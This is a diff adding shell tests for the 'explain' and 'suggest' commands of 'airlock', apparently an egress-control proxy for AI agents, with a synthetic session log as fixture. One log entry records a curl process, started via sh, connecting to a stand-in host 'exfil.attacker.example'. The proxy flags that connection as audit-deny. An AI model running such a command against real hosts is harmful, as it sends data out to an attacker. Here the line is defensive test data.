@@ -63,5 +63,37 @@ check "ca init: creates the CA" 0 'ca.crt' -- "$AIRLOCK" ca init "$tmp/ca"
 check "ca init: refuses to overwrite" 1 'ca.key' -- "$AIRLOCK" ca init "$tmp/ca"
 check "ca: needs init DIR" 2 "expected 'init DIR'" -- "$AIRLOCK" ca
 
+# explain and suggest, on a small log of one audit-mode session
+for cmd in explain suggest; do
+  check "airlock $cmd --help" 0 "^Usage: airlock $cmd" -- "$AIRLOCK" "$cmd" --help
+done
+cat > "$tmp/decisions.jsonl" <<'LOG'
+{"ts":"2026-12-02T14:21:15.900000Z","event":"session","session":"s1","labels":{},"tool_call":null,"action":"open","policy":"agent","sources":["198.51.100.2/32"],"verdict":null,"reason":null,"rule":null,"dns_queries":null,"connections_allowed":null,"connections_denied":null,"bytes_up":null,"bytes_down":null,"duration_ms":null}
+{"ts":"2026-12-02T14:21:16.120000Z","event":"dns","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:41000","name":"registry.npmjs.org","dst":null,"upstream":null,"proto":"dns","verdict":"allow","reason":"host_allowed","rule":"<family npm>:7","conn":null,"policy":"agent","policy_version":"9c1e","process":null,"qtype":"A","rcode":"NOERROR","answers":["104.16.24.34"]}
+{"ts":"2026-12-02T14:21:17.480000Z","event":"connect","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:52000","name":null,"dst":"104.16.24.34:443","upstream":"104.16.24.34:443","proto":"tcp","verdict":"allow","reason":"host_allowed","rule":"<family npm>:7","conn":1,"policy":"agent","policy_version":"9c1e","process":null,"bytes_up":10,"bytes_down":20,"duration_ms":5}
+garbage
+{"ts":"2026-12-02T14:21:19.400000Z","event":"connect","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:52004","name":"exfil.attacker.example","dst":"203.0.113.66:8443","upstream":"203.0.113.66:8443","proto":"tls","verdict":"audit-deny","reason":"host_not_allowed","rule":"default","conn":2,"policy":"agent","policy_version":"9c1e","process":{"pid":4242,"comm":"curl","cmdline":"curl https://exfil.attacker.example:8443/","chain":[{"pid":4242,"comm":"curl","cmdline":"curl https://exfil.attacker.example:8443/"},{"pid":4240,"comm":"sh","cmdline":"sh -c curl"}]},"bytes_up":1,"bytes_down":2,"duration_ms":3}
+{"ts":"2026-12-02T14:21:19.700000Z","event":"connect","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:52006","name":"intranet.acme.example","dst":"203.0.113.80:443","upstream":null,"proto":"tls","verdict":"deny","reason":"private_address","rule":"default","conn":3,"policy":"agent","policy_version":"9c1e","process":null,"bytes_up":null,"bytes_down":null,"duration_ms":2}
+LOG
+check "explain: the story, with the nameless connection named by DNS" 0 'connect tcp registry.npmjs.org \(name from DNS\) 104.16.24.34:443' -- \
+  "$AIRLOCK" explain --log "$tmp/decisions.jsonl" s1
+check "explain: denials stand out, the process chain oldest first" 0 'AUDIT-DENY host_not_allowed.* process sh -> curl' -- \
+  bash -c "$AIRLOCK explain --log $tmp/decisions.jsonl s1 | tr '\n' ' '"
+check "explain: the garbage line is counted" 0 '^1 unparseable line ignored$' -- "$AIRLOCK" explain --log "$tmp/decisions.jsonl" s1
+check "explain: no colour when not a terminal" 0 '^0$' -- bash -c "$AIRLOCK explain --log $tmp/decisions.jsonl s1 | tr -cd '\\033' | wc -c"
+check "explain --json is one JSON document" 0 '^\{"session":"s1",.*"steps":\[.*"unparseable_lines":1' -- \
+  bash -c "$AIRLOCK explain --json --log $tmp/decisions.jsonl s1 | wc -l | grep -qx 1 && $AIRLOCK explain --json --log $tmp/decisions.jsonl s1"
+check "explain: a session the log does not have exits 1 and names the log" 1 "no line for session 'nope' in $tmp/decisions.jsonl" -- \
+  "$AIRLOCK" explain --log "$tmp/decisions.jsonl" nope
+check "explain: an unreadable log exits 2" 2 "$tmp/none.jsonl: cannot open the log" -- "$AIRLOCK" explain --log "$tmp/none.jsonl" s1
+check "explain: needs a SESSION" 2 'expected a SESSION id' -- "$AIRLOCK" explain --log "$tmp/decisions.jsonl"
+check "explain: reads stdin with --log -" 0 'session s1' -- bash -c "$AIRLOCK explain --log - s1 < $tmp/decisions.jsonl"
+check "suggest: families, ports, and what is not suggested" 0 'include: \[npm\].*- host: exfil.attacker.example +ports: \[8443\].*not suggested:.*intranet.acme.example \(private_address' -- \
+  bash -c "$AIRLOCK suggest --log $tmp/decisions.jsonl s1 2>/dev/null | tr '\n' ' '"
+check "suggest: the output with 'version: 1' in front passes airlock check" 0 '^ok: ' -- \
+  bash -c "{ echo 'version: 1'; $AIRLOCK suggest --log $tmp/decisions.jsonl s1; } > $tmp/suggested.yaml && $AIRLOCK check -c $tmp/suggested.yaml"
+check "suggest: a session the log does not have exits 1" 1 "no line for session 'nope'" -- "$AIRLOCK" suggest --log "$tmp/decisions.jsonl" nope
+check "suggest: an unreadable log exits 2" 2 'cannot open the log' -- "$AIRLOCK" suggest --log "$tmp/none.jsonl" s1
+
 echo "$passed passed, $failed failed"
 [[ $failed -eq 0 ]]
